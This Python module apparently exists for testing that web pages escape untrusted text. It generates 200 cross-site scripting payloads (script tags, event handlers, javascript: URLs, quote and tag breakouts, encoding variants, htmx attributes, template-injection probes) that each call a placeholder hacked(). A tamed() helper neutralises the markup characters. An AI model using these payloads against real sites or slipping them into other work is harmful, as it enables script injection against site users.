"""Words that would run in a browser if a page took them for markup: 200 of them, each calling `hacked()`."""

from __future__ import annotations

from typing import Final

# What a reader of markup acts on by itself, …
_ELEMENTS: Final = (
    "<script>hacked()</script>",
    "<ScRiPt>hacked()</sCrIpT>",
    "<script src=/hacked.js></script>",
    "<script src=data:text/javascript,hacked()></script>",
    "<script type=module>hacked()</script>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<script/x>hacked()</script/y>",
    "<img src=/hacked onerror=hacked()>",
    "<img/src=/hacked/onerror=hacked()>",
    "<img src=x:y onerror=&#104;acked()>",
    "<IMG SRC=/hacked ONERROR=hacked()//",
    "<image src=/hacked onerror=hacked()>",
    "<svg onload=hacked()>",
    "<svg/onload=hacked()//",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><style><img src=/hacked onerror=hacked()></style></svg>",
    "<math><mi//xlink:href=data:x,<script>hacked()</script>>",
    "<body onload=hacked()>",
    "<iframe src=javascript:hacked()></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data=javascript:hacked()></object>",
    "<embed src=javascript:hacked()>",
    "<input autofocus onfocus=hacked()>",
    "<select autofocus onfocus=hacked()>",
    "<details open ontoggle=hacked()><summary>x</summary></details>",
    "<video src=/hacked onerror=hacked()></video>",
    "<audio src=/hacked onerror=hacked()></audio>",
    "<video><source onerror=hacked()></video>",
    "<marquee onstart=hacked()>x</marquee>",
    "<div style=animation-name:x onanimationstart=hacked()>x</div>",
    "<style>@import'/hacked.css';</style>",
    "<link rel=stylesheet href=/hacked.css onerror=hacked()>",
    "<meta http-equiv=refresh content='0;url=/hacked'>",
    "<base href=//hacked.example/>",
    "<form action=/hacked><button>Vào</button></form>",
    "<a href=javascript:hacked()>bấm vào đây</a>",
    "<h1>hacked</h1></main></body></html>",
    "<p hx-get=/hacked hx-trigger=load>x</p>",
    "<p hx-on::load=hacked() data-hx-post=/hacked data-hx-trigger=load>x</p>",
    "<template><img src=/hacked onerror=hacked()></template>",
    "<noscript><p title='</noscript><img src=/hacked onerror=hacked()>'>",
)
# … what ends the place that the words stand in, before it, …
_WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    "</textarea></title></style></script>",
)
# … and what needs no element of its own.
_ALONE: Final = (
    '" onmouseover="hacked()" x="',
    "' onmouseover='hacked()' x='",
    '" autofocus onfocus="hacked()',
    "' autofocus onfocus='hacked()",
    "x onfocus=hacked() autofocus",
    "` onmouseover=hacked() `",
    '" style="animation-name:x" onanimationstart="hacked()',
    '" hx-get="/hacked" hx-trigger="load',
    '" hx-vals="js:{x:hacked()}" x="',
    '" formaction="javascript:hacked()',
    "javascript:hacked()",
    "JaVaScRiPt:hacked()//",
    "java\tscript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "vbscript:hacked()",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#60;script&#62;hacked()&#60;/script&#62;",
    "&quot; onfocus=hacked() autofocus &quot;",
    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "＜script＞hacked()＜/script＞",
    "';hacked();//",
    '";hacked();//',
    "\\';hacked();//",
    "${hacked()}",
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__ }}",
    "{% for x in range(9) %}hacked{% endfor %}",
    "{# hacked #}",
    "-->]]><img src=/hacked onerror=hacked()>",
    "<!--><script>hacked()</script>-->",
    "<![CDATA[<script>hacked()</script>]]>",
    "<?xml version='1.0'?><script>hacked()</script>",
)

PAYLOADS: Final = (*(way + element for element in _ELEMENTS for way in _WAYS_OUT), *_ALONE)

_TAMED: Final = str.maketrans({"<": "‹", ">": "›", '"': "”", "'": "’", "&": "+", "{": "(", "}": ")", "`": "’"})


def tamed(payload: str) -> str:
    """The same words without what markup is made of: a page of these is what a page of those must look like."""
    return payload.translate(_TAMED)
